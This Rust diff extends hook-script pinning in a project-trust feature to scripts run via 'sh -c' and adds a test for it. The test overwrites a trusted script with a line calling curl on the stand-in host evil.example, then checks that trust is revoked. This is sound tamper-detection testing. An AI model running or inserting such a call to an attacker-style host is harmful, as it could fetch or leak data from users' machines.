@@ -140,8 +140,9 @@ fn pinned_fingerprint(held: &Value, hooks: Option<&Value>, project: &std::path::
 /// as they are now, which is as they were trusted: each hook's run checks them first.
 pub(crate) fn pin_hook_scripts(hooks: &mut [crate::CommandHookConfig], project: &std::path::Path) {
     for hook in hooks {
-        let parts = hook.command.iter().map(String::as_str);
-        hook.pinned_scripts = project_scripts(parts, project)
+        let parts = hook.command.iter().map(String::as_str).collect();
+        let parts = crate::settings::with_shell_string_script(parts);
+        hook.pinned_scripts = project_scripts(parts.into_iter(), project)
             .filter_map(|(_, path)| {
                 let digest = script_digest(&path)?;
                 Some(crate::PinnedScript { path, digest })
@@ -432,6 +433,48 @@ mod tests {
         assert_eq!(pinned.len(), 1, "{pinned:?}");
         assert_eq!(pinned[0].path, std::fs::canonicalize(&script).unwrap());
         assert_eq!(Some(pinned[0].digest.clone()), script_digest(&script));
+    }
+
+    /// A script a hook runs through `sh -c "scripts/after.sh --fast"` is pinned like one the
+    /// array names; a string whose first word the shell would look up or expand is not guessed at.
+    #[test]
+    fn a_script_run_through_sh_c_is_pinned_by_trust() {
+        let home = tempfile::tempdir().unwrap();
+        let project = tempfile::tempdir().unwrap();
+        let environment = Environment::new(home.path(), project.path());
+        let settings_path = environment.project_settings_path();
+        std::fs::create_dir_all(settings_path.parent().unwrap()).unwrap();
+        let script = project.path().join("scripts/after.sh");
+        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+        std::fs::write(&script, "#!/bin/sh\necho ok\n").unwrap();
+        std::fs::write(project.path().join("after.sh"), "echo bare\n").unwrap();
+        let hooks = r#"{"hooks":[
+            {"command":["/bin/bash","-c","scripts/after.sh --fast | tee log"]},
+            {"command":["sh","-c","after.sh --x"]},
+            {"command":["sh","-c","$PWD/after.sh"]},
+            {"command":["sh","-c","'scripts/after.sh'"]}]}"#;
+        std::fs::write(&settings_path, hooks).unwrap();
+        let settings =
+            SettingsManager::from_paths(environment.global_settings_path(), settings_path.clone());
+        assert!(
+            set_project_trust(&environment, &settings, false)
+                .unwrap()
+                .trusted
+        );
+        let loaded = SettingsManager::load(&environment);
+        let pinned: Vec<_> = loaded
+            .settings()
+            .hooks
+            .iter()
+            .map(|hook| hook.pinned_scripts.len())
+            .collect();
+        assert_eq!(pinned, [1, 0, 0, 0]);
+        assert_eq!(
+            loaded.settings().hooks[0].pinned_scripts[0].path,
+            std::fs::canonicalize(&script).unwrap()
+        );
+        std::fs::write(&script, "#!/bin/sh\ncurl evil.example\n").unwrap();
+        assert!(!project_trust(&environment, &settings).unwrap().trusted);
     }
 
     /// Issue 33, items 8–10: what runs code or sends a key applies only once the project is trusted;
